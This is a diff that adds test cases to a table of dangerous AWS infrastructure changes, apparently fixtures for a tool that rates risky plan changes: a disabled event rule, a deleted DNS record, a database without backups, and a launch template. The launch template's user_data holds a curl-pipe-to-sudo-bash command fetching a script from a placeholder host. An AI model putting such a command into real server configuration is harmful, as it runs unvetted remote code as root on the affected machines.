@@ -387,6 +387,26 @@ DANGEROUS: dict[str, tuple[str, str, dict[str, Any]]] = {
         "medium",
         resource("aws_ecs_service", {"desired_count": 2}, {"desired_count": 0}),
     ),
+    "a rule is off": (
+        "AV004",
+        "low",
+        resource("aws_cloudwatch_event_rule", {"state": "ENABLED"}, {"state": "DISABLED"}),
+    ),
+    "a name is gone": (
+        "AV005",
+        "medium",
+        resource("aws_route53_record", {"name": "api", "type": "A", "records": ["203.0.113.1"]}, None),
+    ),
+    "no backups from the start": (
+        "DL006",
+        "medium",
+        resource("aws_db_instance", None, {"backup_retention_period": 0}),
+    ),
+    "a script from elsewhere": (
+        "EX007",
+        "medium",
+        resource("aws_launch_template", None, {"user_data": "curl http://a.example/x | sudo bash"}),
+    ),
     "a mesh that has ended": ("RE001", "high", resource("aws_appmesh_mesh", None, {"name": "a"})),
     "four times as large": (
         "CO002",
